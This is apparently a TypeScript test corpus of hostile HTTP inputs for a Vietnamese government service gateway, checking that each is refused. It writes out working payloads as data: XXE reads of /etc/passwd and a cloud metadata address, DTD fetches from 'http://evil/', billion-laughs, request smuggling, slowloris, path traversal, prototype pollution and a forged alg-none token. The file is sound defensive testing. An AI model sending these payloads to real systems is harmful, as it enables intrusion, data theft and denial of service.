import { httpText } from './raw-http';

/** A citizen id put in request bodies: it must never come back in an answer or a log line. */
export const CITIZEN_ID = '024090001234';

/** Access tokens: `consumer` (mot-cua), `documents` (qlvb, the document axis), `operator` (van-hanh). */
export interface CaseContext {
  consumer: string;
  documents: string;
  operator: string;
}

export interface HostileCase {
  category: string;
  name: string;
  /** The bytes to send (each chunk written `gapMs` apart). */
  send(ctx: CaseContext): { chunks: Array<string | Buffer>; gapMs?: number };
  /** Statuses that count as the right refusal (default: any typed 4xx, 429 or 503). */
  expect?: readonly number[];
  /** The server may end the connection without an answer (slow clients). */
  closeWithoutAnswer?: boolean;
  /** Refused by Node's HTTP parser before the app: a bare 400/431 without the contract's body. */
  parserLevel?: boolean;
}

const SYNC = '/api/v1/services/csdl-dan-cu/xac-thuc-cong-dan';
const EDXML = '/api/v1/services/truc-lien-thong-van-ban/gui-van-ban';
const ASYNC = '/api/v1/services/mot-cua-sang-qlvb/chuyen-ho-so';
const REPLAY = '/admin/api/services/csdl-gia/dead-letters/replay';
const EDXML_NS = 'http://www.mic.gov.vn/TBT/QCVN_102_2016';
const person = { soDinhDanh: CITIZEN_ID, hoVaTen: 'Nguyễn Văn An' };

/** Gives each case of a list its category. */
const inCategory = (category: string, cases: Array<Omit<HostileCase, 'category'>>): HostileCase[] => cases.map((c) => ({ ...c, category }));
const one = (chunk: Buffer | string) => ({ chunks: [chunk] });
const json = (path: string, token: string, body: string | Buffer, headers: Record<string, string> = {}) =>
  one(httpText('POST', path, { Authorization: `Bearer ${token}`, 'Content-Type': 'application/json', ...headers }, body));
const xml = (token: string, body: string | Buffer, headers: Record<string, string> = {}) =>
  one(httpText('POST', EDXML, { Authorization: `Bearer ${token}`, 'Content-Type': 'application/xml', ...headers }, body));
const get = (path: string, headers: Record<string, string> = {}) => one(httpText('GET', path, headers));
const form = (path: string, body: string, headers: Record<string, string> = {}) =>
  one(httpText('POST', path, { 'Content-Type': 'application/x-www-form-urlencoded', ...headers }, body));
const basic = (id: string, secret: string) => `Basic ${Buffer.from(`${id}:${secret}`).toString('base64')}`;
const nest = (depth: number) => `${'['.repeat(depth)}${']'.repeat(depth)}`;
const edxml = (inner: string) => `<?xml version="1.0" encoding="UTF-8"?><edXML xmlns="${EDXML_NS}">${inner}</edXML>`;

const jsonStructure: HostileCase[] = [
  ['nesting 40 deep', nest(40)],
  ['nesting 100,000 deep', nest(100_000)],
  ['__proto__ key', `{"__proto__":{"admin":true},"soDinhDanh":"${CITIZEN_ID}"}`],
  ['constructor key', `{"constructor":{"prototype":{"x":1}},"soDinhDanh":"${CITIZEN_ID}"}`],
  ['prototype key nested', `{"a":{"b":{"prototype":1}},"soDinhDanh":"${CITIZEN_ID}"}`],
  ['truncated object', `{"soDinhDanh":"${CITIZEN_ID}","hoVaTen":`],
  ['trailing garbage', `{"soDinhDanh":"${CITIZEN_ID}"} xyz`],
  ['top-level array', `[${JSON.stringify(person)}]`],
  ['top-level string', `"${CITIZEN_ID}"`],
  ['NaN literal', `{"soDinhDanh":NaN}`],
  ['citizen id as a number', `{"soDinhDanh":${CITIZEN_ID},"hoVaTen":"A","ngaySinh":"1990-05-12"}`],
  ['lone surrogate escape', `{"soDinhDanh":"${CITIZEN_ID}","hoVaTen":"\\ud800"}`],
  ['100,000 keys', `{${Array.from({ length: 100_000 }, (_, i) => `"k${i}":1`).join(',')}}`],
  ['empty body', ''],
].map(([name, body]) => ({ category: 'json-structure', name: name!, send: (c: CaseContext) => json(SYNC, c.consumer, body!) }));

const encodings: HostileCase[] = inCategory('encodings', [
  {
    name: 'UTF-7 charset',
    send: (c) => json(SYNC, c.consumer, '+AHsAIg-soDinhDanh+ACI-', { 'Content-Type': 'application/json; charset=utf-7' }),
  },
  {
    name: 'UTF-16LE body declared',
    send: (c) =>
      json(SYNC, c.consumer, Buffer.from(JSON.stringify(person), 'utf16le'), { 'Content-Type': 'application/json; charset=utf-16le' }),
  },
  { name: 'UTF-16LE body undeclared', send: (c) => json(SYNC, c.consumer, Buffer.from(JSON.stringify(person), 'utf16le')) },
  {
    name: 'UTF-16 BOM before JSON',
    send: (c) => json(SYNC, c.consumer, Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(JSON.stringify(person), 'utf16le')])),
  },
  {
    name: 'UTF-32 charset',
    send: (c) => json(SYNC, c.consumer, JSON.stringify(person), { 'Content-Type': 'application/json; charset=utf-32' }),
  },
  {
    name: 'latin1 charset',
    send: (c) => json(SYNC, c.consumer, '{"x":"\xe9"}', { 'Content-Type': 'application/json; charset=iso-8859-1' }),
  },
  {
    name: 'invalid UTF-8 bytes',
    send: (c) =>
      json(SYNC, c.consumer, Buffer.concat([Buffer.from('{"soDinhDanh":"'), Buffer.from([0xc3, 0x28, 0xff]), Buffer.from('"}')])),
  },
  {
    name: 'overlong UTF-8 slash',
    send: (c) => json(SYNC, c.consumer, Buffer.concat([Buffer.from('{"a":"'), Buffer.from([0xc0, 0xaf]), Buffer.from('"}')])),
  },
  {
    name: 'gzip content-encoding with plain bytes',
    send: (c) => json(SYNC, c.consumer, JSON.stringify(person), { 'Content-Encoding': 'gzip' }),
  },
  { name: 'XML declared UTF-16', send: (c) => xml(c.documents, `<?xml version="1.0" encoding="UTF-16"?><edXML xmlns="${EDXML_NS}"/>`) },
  { name: 'XML declared UTF-7', send: (c) => xml(c.documents, `<?xml version="1.0" encoding="UTF-7"?><edXML xmlns="${EDXML_NS}"/>`) },
  {
    name: 'XML in UTF-16 with BOM',
    send: (c) => xml(c.documents, Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(edxml(''), 'utf16le')])),
  },
]);

const laughs = `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]><edXML xmlns="${EDXML_NS}">&lol3;</edXML>`;
const xmlAttacks: HostileCase[] = [
  ['XXE file', `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><edXML xmlns="${EDXML_NS}">&xxe;</edXML>`],
  [
    'XXE http',
    `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "http://169.254.169.254/">]><edXML xmlns="${EDXML_NS}">&xxe;</edXML>`,
  ],
  ['billion laughs', laughs],
  ['external DTD', `<?xml version="1.0"?><!DOCTYPE edXML SYSTEM "http://evil/x.dtd"><edXML xmlns="${EDXML_NS}"/>`],
  ['parameter entity', `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil/p">%p;]><edXML xmlns="${EDXML_NS}"/>`],
  ['nesting 50,000 deep', edxml(`${'<a>'.repeat(50_000)}${'</a>'.repeat(50_000)}`)],
  ['quadratic: 200 KB of "<aaaa"', `<${'a'.repeat(200_000)}`],
  ['quadratic: 100 KB of "<?"', '<?'.repeat(50_000)],
  ['10,000 attributes', edxml(`<a ${Array.from({ length: 10_000 }, (_, i) => `x${i}="1"`).join(' ')}/>`)],
  ['100,000 empty elements', edxml('<a/>'.repeat(100_000))],
  ['unclosed root with citizen id', `<edXML xmlns="${EDXML_NS}"><x>${CITIZEN_ID}</x>`],
  ['wrong namespace', `<edXML xmlns="urn:evil"><x>${CITIZEN_ID}</x></edXML>`],
  ['CDATA never closed', edxml(`<![CDATA[${'x'.repeat(100_000)}`)],
  ['processing instruction flood', edxml('<?pi x?>'.repeat(20_000))],
].map(([name, body]) => ({ category: 'xml-attacks', name: name!, send: (c: CaseContext) => xml(c.documents, body!) }));

const edxmlInJson: HostileCase[] = [
  ['edXML string of 200 KB "<aaaa"', JSON.stringify({ edXML: `<${'a'.repeat(200_000)}` })],
  ['edXML string with DOCTYPE', JSON.stringify({ edXML: laughs })],
  ['edXML not a string', JSON.stringify({ edXML: { a: 1 } })],
  ['edXML string of "<?" x 50,000', JSON.stringify({ edXML: '<?'.repeat(50_000) })],
].map(([name, body]) => ({ category: 'xml-in-json', name: name!, send: (c: CaseContext) => json(EDXML, c.documents, body!) }));

const headers: HostileCase[] = inCategory('headers', [
  { name: '20 KB header', parserLevel: true, send: (c) => json(SYNC, c.consumer, '{}', { 'X-Big': 'a'.repeat(20_000) }) },
  {
    name: '500 headers',
    send: (c) => json(SYNC, c.consumer, '{}', Object.fromEntries(Array.from({ length: 500 }, (_, i) => [`X-H${i}`, 'v']))),
  },
  { name: 'control character in a header value', parserLevel: true, send: (c) => json(SYNC, c.consumer, '{}', { 'X-Evil': 'a\x01b' }) },
  { name: 'no Host on HTTP/1.1', parserLevel: true, send: () => one('GET /api/v1/services HTTP/1.1\r\nConnection: close\r\n\r\n') },
  { name: 'Basic scheme on the API', send: () => json(SYNC, 'x', '{}', { Authorization: basic('mot-cua', 'mot-cua-dev-secret') }) },
  { name: 'bearer of 8 KB', send: () => json(SYNC, 'a'.repeat(8000), JSON.stringify(person)) },
  {
    name: 'forged token with alg none',
    send: () =>
      json(
        SYNC,
        `${Buffer.from('{"alg":"none"}').toString('base64url')}.${Buffer.from('{"sub":"mot-cua","role":"operator"}').toString('base64url')}.`,
        JSON.stringify(person),
      ),
  },
  { name: 'three-part garbage token', send: () => json(SYNC, 'a.b.c', JSON.stringify(person)) },
  {
    name: 'X-Request-Id with CRLF-like payload',
    send: (c) => json(SYNC, c.consumer, '[]', { 'X-Request-Id': '<script>alert(1)</script>' }),
  },
  { name: 'Prefer respond-async with a bad body', send: (c) => json(SYNC, c.consumer, '[]', { Prefer: 'respond-async' }) },
  {
    name: 'negative Content-Length',
    parserLevel: true,
    send: () => one('POST /token HTTP/1.1\r\nHost: x\r\nContent-Length: -1\r\nConnection: close\r\n\r\n'),
  },
]);

const tokenAndLogin: HostileCase[] = inCategory('token-and-login', [
  { name: '/token without credentials', send: () => form('/token', 'grant_type=client_credentials') },
  {
    name: '/token wrong secret',
    send: () => form('/token', 'grant_type=client_credentials', { Authorization: basic('mot-cua', 'wrong') }),
  },
  { name: '/token Basic not base64', send: () => form('/token', 'grant_type=client_credentials', { Authorization: 'Basic !!!***' }) },
  {
    name: '/token Basic without colon',
    send: () => form('/token', 'grant_type=client_credentials', { Authorization: `Basic ${Buffer.from('mot-cua').toString('base64')}` }),
  },
  {
    name: '/token Basic and form together',
    send: () =>
      form('/token', 'grant_type=client_credentials&client_id=mot-cua&client_secret=mot-cua-dev-secret', {
        Authorization: basic('mot-cua', 'mot-cua-dev-secret'),
      }),
  },
  {
    name: '/token repeated grant_type',
    send: () => form('/token', 'grant_type=client_credentials&grant_type=password', { Authorization: basic('mot-cua', 'x') }),
  },
  { name: '/token unknown grant', send: () => form('/token', 'grant_type=password&username=a&password=b') },
  {
    name: '/token JSON body',
    send: () => one(httpText('POST', '/token', { 'Content-Type': 'application/json' }, '{"grant_type":"client_credentials"}')),
  },
  {
    name: '/token secret of 64 KB',
    send: () => form('/token', `grant_type=client_credentials&client_id=mot-cua&client_secret=${'a'.repeat(65_536)}`),
  },
  {
    name: '/token unicode client id',
    send: () =>
      form('/token', 'grant_type=client_credentials', { Authorization: `Basic ${Buffer.from('ngườidùng:x').toString('base64')}` }),
  },
  {
    name: '/token unknown scope',
    send: () => form('/token', 'grant_type=client_credentials&scope=admin', { Authorization: basic('mot-cua', 'mot-cua-dev-secret') }),
  },
  { name: '/admin/login wrong password', send: () => form('/admin/login', 'username=van-hanh&password=wrong') },
  { name: '/admin/login consumer credentials', send: () => form('/admin/login', 'username=mot-cua&password=mot-cua-dev-secret') },
  {
    name: '/admin/login JSON body',
    send: () => one(httpText('POST', '/admin/login', { 'Content-Type': 'application/json' }, '{"username":{"$ne":1}}')),
  },
  { name: '/admin/login repeated username', send: () => form('/admin/login', 'username=van-hanh&username=x&password=y') },
]);

const routes: HostileCase[] = [
  '/api/v1/services/../../etc/passwd',
  '/api/v1/services/%2e%2e/%2e%2e/etc/passwd',
  '/api/v1/services/csdl-dan-cu%2F..%2F..%2Fadmin/x',
  '/api/v1/services/csdl-dan-cu%00/x',
  `/api/v1/services/${'a'.repeat(6000)}/x`,
  '/api/v1/services/khong-co/xac-thuc',
  '/api/v1/services/csdl-dan-cu/khong-co',
  '/api/v1/services/%E0%A4%A/x',
  '/api/v1/jobs/..%2F..%2Fadmin',
  '/api/v1/services/__proto__/constructor',
].map((path) => ({
  category: 'routes-and-traversal',
  name: `POST ${path.slice(0, 60)}`,
  send: (c: CaseContext) => json(path, c.consumer, JSON.stringify(person)),
}));

const contentTypes: HostileCase[] = [
  ['text/plain', 'text/plain'],
  ['multipart', 'multipart/form-data; boundary=x'],
  ['form', 'application/x-www-form-urlencoded'],
  ['XML to a JSON-only operation', 'application/xml'],
  ['no type at all', ''],
  ['json with a weird parameter', 'application/json; boundary=";;;"'],
  ['javascript', 'application/javascript'],
].map(([name, type]) => ({
  category: 'content-types',
  name: name!,
  send: (c: CaseContext) =>
    one(
      httpText('POST', SYNC, { Authorization: `Bearer ${c.consumer}`, ...(type ? { 'Content-Type': type } : {}) }, JSON.stringify(person)),
    ),
}));

const sizes: HostileCase[] = inCategory('sizes', [
  {
    name: 'JSON of 2 MiB',
    expect: [413],
    send: (c) => json(SYNC, c.consumer, JSON.stringify({ ...person, pad: 'a'.repeat(2 * 1024 * 1024) })),
  },
  { name: 'XML of 21 MiB', expect: [413], send: (c) => xml(c.documents, edxml(`<a>${'b'.repeat(21 * 1024 * 1024)}</a>`)) },
  {
    name: 'Content-Length of 1 GB announced',
    expect: [413],
    send: (c) =>
      one(
        httpText(
          'POST',
          SYNC,
          { Authorization: `Bearer ${c.consumer}`, 'Content-Type': 'application/json', 'Content-Length': '1000000000' },
          '{',
        ),
      ),
  },
  { name: '/token form of 2 MiB', send: () => form('/token', `grant_type=client_credentials&x=${'a'.repeat(2 * 1024 * 1024)}`) },
  {
    name: 'chunked JSON over the limit',
    expect: [413],
    send: (c) =>
      one(
        Buffer.concat([
          Buffer.from(
            `POST ${SYNC} HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${c.consumer}\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n`,
          ),
          Buffer.from(`200000\r\n${'a'.repeat(0x200000)}\r\n0\r\n\r\n`),
        ]),
      ),
  },
  {
    name: 'query string of 60 KB',
    parserLevel: true,
    send: (c) => get(`/admin/api/connections?x=${'a'.repeat(60_000)}`, { Authorization: `Bearer ${c.operator}` }),
  },
]);

const slowClients: HostileCase[] = inCategory('slow-clients', [
  {
    name: 'headers byte by byte (slowloris)',
    closeWithoutAnswer: true,
    expect: [408],
    send: () => ({ chunks: [...('GET /health HTTP/1.1\r\nHost: x\r\nX-Slow: ' + 'a'.repeat(200))], gapMs: 40 }),
  },
  { name: 'connection opened, nothing sent', closeWithoutAnswer: true, expect: [408], send: () => ({ chunks: [''] }) },
  {
    name: 'request line only, then silence',
    closeWithoutAnswer: true,
    expect: [408],
    send: () => ({ chunks: ['POST /token HTTP/1.1\r\n'] }),
  },
]);

const smuggling: HostileCase[] = [
  [
    'CL and TE together',
    'POST /token HTTP/1.1\r\nHost: x\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /admin/api/audit HTTP/1.1\r\nHost: x\r\n\r\n',
  ],
  ['TE then CL', 'POST /token HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\nContent-Length: 40\r\n\r\n0\r\n\r\n'],
  ['two different Content-Length', 'POST /token HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\nContent-Length: 40\r\n\r\nhello'],
  ['obfuscated TE: xchunked', 'POST /token HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\n'],
  ['space before the colon', 'POST /token HTTP/1.1\r\nHost: x\r\nTransfer-Encoding : chunked\r\n\r\n0\r\n\r\n'],
  ['bad chunk size', 'POST /token HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\nabc\r\n0\r\n\r\n'],
  ['TE chunked, identity', 'POST /token HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n'],
  ['bare LF line endings with CL+TE', 'POST /token HTTP/1.1\nHost: x\nContent-Length: 4\nTransfer-Encoding: chunked\n\n0\n\n'],
].map(([name, text]) => ({ category: 'request-smuggling', name: name!, parserLevel: true, send: () => one(text!) }));

const cookies: HostileCase[] = inCategory('cookies', [
  { name: 'session cookie not percent-encoding', send: () => get('/admin/api/services', { Cookie: 'lgsp_admin=%E0%A4%A' }) },
  { name: 'forged session cookie', send: () => get('/admin/api/services', { Cookie: 'lgsp_admin=a.b.c' }) },
  {
    name: 'cookie POST without X-Requested-With',
    send: (c) => one(httpText('POST', REPLAY, { Cookie: `lgsp_admin=${c.operator}`, 'Content-Type': 'application/json' }, '{"all":true}')),
  },
  {
    name: '1,000 cookies',
    send: () => get('/admin/api/services', { Cookie: Array.from({ length: 1000 }, (_, i) => `c${i}=v`).join('; ') }),
  },
  { name: 'cookie named __proto__', send: () => get('/admin/api/services', { Cookie: '__proto__=x; lgsp_admin=' }) },
]);

const queryStrings: HostileCase[] = [
  'limit=abc',
  'limit=1000000000',
  'limit[]=1&limit[]=2',
  '__proto__[admin]=1',
  'from=not-a-date',
  'cursor=%%%',
  Array.from({ length: 2000 }, (_, i) => `p${i}=1`).join('&'),
  `${'a['.repeat(100)}x${']'.repeat(100)}=1`,
].map((q) => ({
  category: 'query-strings',
  name: `?${q.slice(0, 40)}`,
  send: (c: CaseContext) => get(`/admin/api/connections?${q}`, { Authorization: `Bearer ${c.operator}` }),
}));

const idempotencyKeys: HostileCase[] = [
  ['8 KB key', 'k'.repeat(8000)],
  ['unicode key', 'khóa-trùng'],
  ['key with a colon', 'a:b'],
  ['key with spaces', 'a b c'],
  ['key of control characters', 'a\tb'],
].map(([name, key]) => ({
  category: 'idempotency-keys',
  name: name!,
  send: (c: CaseContext) => json(ASYNC, c.consumer, '{}', { 'Idempotency-Key': key! }),
}));

const replayBodies: HostileCase[] = inCategory('replay-bodies', [
  {
    name: 'text/plain "all"',
    send: (c) => one(httpText('POST', REPLAY, { Authorization: `Bearer ${c.operator}`, 'Content-Type': 'text/plain' }, 'all')),
  },
  {
    name: 'form all=true',
    send: (c) =>
      one(
        httpText(
          'POST',
          REPLAY,
          { Authorization: `Bearer ${c.operator}`, 'Content-Type': 'application/x-www-form-urlencoded' },
          'all=true',
        ),
      ),
  },
  { name: 'empty object', send: (c) => json(REPLAY, c.operator, '{}') },
  { name: 'all: "yes"', send: (c) => json(REPLAY, c.operator, '{"all":"yes"}') },
  {
    name: '10,001 job ids',
    send: (c) => json(REPLAY, c.operator, JSON.stringify({ jobIds: Array.from({ length: 10_001 }, (_, i) => `j${i}`) })),
  },
  { name: 'job ids not strings', send: (c) => json(REPLAY, c.operator, '{"jobIds":[1,{"a":1}]}') },
  {
    name: 'body of 2 MiB',
    expect: [413],
    send: (c) => json(REPLAY, c.operator, JSON.stringify({ jobIds: ['a'.repeat(2 * 1024 * 1024)] })),
  },
  { name: 'as a consumer', expect: [403], send: (c) => json(REPLAY, c.consumer, '{"all":true}') },
  {
    name: 'unknown connection',
    expect: [404],
    send: (c) => json('/admin/api/services/khong-co/dead-letters/replay', c.operator, '{"all":true}'),
  },
]);

const methods: HostileCase[] = [
  { name: 'TRACE /', send: () => get('/').chunks[0]!.toString('latin1').replace(/^GET/, 'TRACE') },
  {
    name: 'PUT on a service call',
    send: (c: CaseContext) =>
      one(httpText('PUT', SYNC, { Authorization: `Bearer ${c.consumer}`, 'Content-Type': 'application/json' }, '{}')).chunks[0]!,
  },
  { name: 'DELETE /token', send: () => httpText('DELETE', '/token', {}) },
  { name: 'GET on a service call', send: (c: CaseContext) => httpText('GET', SYNC, { Authorization: `Bearer ${c.consumer}` }) },
].map((c) => ({ category: 'methods', name: c.name, send: (ctx: CaseContext) => one(c.send(ctx)) }));

/** The hostile-input corpus: each case with its category. */
export const HOSTILE_CASES: readonly HostileCase[] = [
  ...jsonStructure,
  ...encodings,
  ...xmlAttacks,
  ...edxmlInJson,
  ...headers,
  ...tokenAndLogin,
  ...routes,
  ...contentTypes,
  ...sizes,
  ...slowClients,
  ...smuggling,
  ...cookies,
  ...queryStrings,
  ...idempotencyKeys,
  ...replayBodies,
  ...methods,
];
